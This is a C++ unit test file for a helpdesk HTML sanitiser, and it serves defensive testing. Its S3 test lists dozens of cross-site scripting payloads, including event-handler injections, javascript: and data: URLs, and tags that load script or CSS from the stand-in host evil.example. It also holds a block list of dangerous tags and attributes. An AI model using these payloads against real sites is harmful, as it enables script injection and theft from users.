#include "base/text.hpp"
#include "language/html.hpp"

#include <gtest/gtest.h>

namespace helpdesk {
namespace {

TEST(SanitiseHtml, keeps_what_is_allowed) {
  EXPECT_EQ(sanitise_html("<p class=x style='color:red' onclick=a()>Hi <b>Ann</b> &amp; co</p>"),
            "<p>Hi <b>Ann</b> &amp; co</p>");
  EXPECT_EQ(sanitise_html("<a href='https://example.org/?a=1&amp;b=\"' title=x>y</a>"),
            "<a href=\"https://example.org/?a=1&amp;b=&quot;\" rel=\"noopener noreferrer nofollow\">y</a>");
  EXPECT_EQ(sanitise_html("<td>x"), "x");
  EXPECT_EQ(sanitise_html("<img src='cid:a1' alt=Logo width=20 height=x>"),
            "<img src=\"cid:a1\" alt=\"Logo\" width=\"20\">");
  EXPECT_EQ(sanitise_html("<img src='https://example.org/track.png' alt=Logo>"), "[Logo]");
  EXPECT_EQ(sanitise_html("<form action=x><input value=1><button>b</button>text</form>"), "text");
  EXPECT_EQ(sanitise_html("<o:p>text</o:p>"), "text");
}

// S3: payloads that scripts, fetches or frames would come out of.
TEST(SanitiseHtml, S3_payloads) {
  const char* const payloads[] = {
      "<script>alert(1)</script>",
      "<ScRiPt src=//evil.example/x.js></sCrIpT>",
      "<img src=x onerror=alert(1)>",
      "<svg onload=alert(1)>",
      "<svg><script>alert(1)</script></svg>",
      "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
      "<iframe src=javascript:alert(1)></iframe>",
      "<object data=x></object><embed src=x>",
      "<a href=javascript:alert(1)>x</a>",
      "<a href=' java\nscript:alert(1)'>x</a>",
      "<a href='&#106;avascript:alert(1)'>x</a>",
      "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
      "<a href='vbscript:x'>x</a>",
      "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh "
      "content='0;url=//evil.example'>",
      "<style>@import '//evil.example/x.css';</style>",
      "<div style='background:url(//evil.example/x)'>x</div>",
      "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
      "<img src='data:text/html;base64,PHN2Zz4='>",
      "<img src='data:image/png;base64,\" onerror=alert(1) x=\"'>",
      "<img srcset='//evil.example/x 2x' src=cid:x>",
      "<table background=//evil.example/x><tr><td background=//evil.example/x>x</table>",
      "<video poster=//evil.example/x><source src=//evil.example/x></video><audio src=x onerror=alert(1)>",
      "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
      "<template><script>alert(1)</script></template>",
      "<!--><img src=x onerror=alert(1)>-->",
      "<textarea></textarea><img src=x onerror=alert(1)>",
      "<xmp><img src=x onerror=alert(1)></xmp>",
      "<p title='`onerror=alert(1)'>x",
      "<a href='https://x.example/' target=_top onmouseover=alert(1)>x</a>",
      "<form><button formaction=javascript:alert(1)>x",
      "<details ontoggle=alert(1) open>x",
      "<body onload=alert(1)>x",
      "<frameset><frame src=javascript:alert(1)></frameset>",
      "<isindex action=javascript:alert(1)>",
      "<plaintext><script>alert(1)</script>",
      "&lt;script&gt;alert(1)&lt;/script&gt;",
      "<<script>script>alert(1)<</script>/script>",
      "<a href=\"https://x.example/\"onclick=\"alert(1)\">x</a>",
      "<td colspan='1\" onclick=\"alert(1)'>x</td>",
      "<p dir='\" onclick=alert(1)'>x</p>",
      "<select><style></select><img src=x onerror=alert(1)></style>",
      "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
  };
  for (const char* payload : payloads) {
    std::string out = ascii_lower(sanitise_html(payload));
    // What stands in text is escaped; only tags matter.
    std::string tags;
    bool inside = false;
    for (const char c : out) {
      if (c == '<') inside = true;
      if (inside) tags += c;
      if (c == '>') inside = false;
    }
    for (const char* bad : {"<script", "<svg",      "<iframe",     "<object",   "<embed",
                            "<style",  "<link",     "<meta",       "<base",     "<form",
                            "<math",   "<template", "<video",      "<audio",    "<input",
                            "<button", " on",       "javascript:", "vbscript:", "evil.example",
                            "style=",  "srcset",    "svg+xml",     "text/html", "target="})
      EXPECT_EQ(tags.find(bad), std::string::npos) << payload << " -> " << out;
  }
}

TEST(SanitiseHtml, control_and_direction_characters_go) {
  EXPECT_EQ(sanitise_html("<p>a\x1B[31mb\u202Ec\u2066d\x7F</p>"), "<p>a\uFFFD[31mbcd\uFFFD</p>");
}

TEST(SanitiseHtml, a_tree_too_deep_becomes_text) {
  std::string deep;
  for (int i = 0; i < 100'000; ++i) deep += "<div onclick=x>";
  EXPECT_EQ(sanitise_html(deep + "<script>x</script>a<b"), "<pre>a</pre>");
}

} // namespace
} // namespace helpdesk
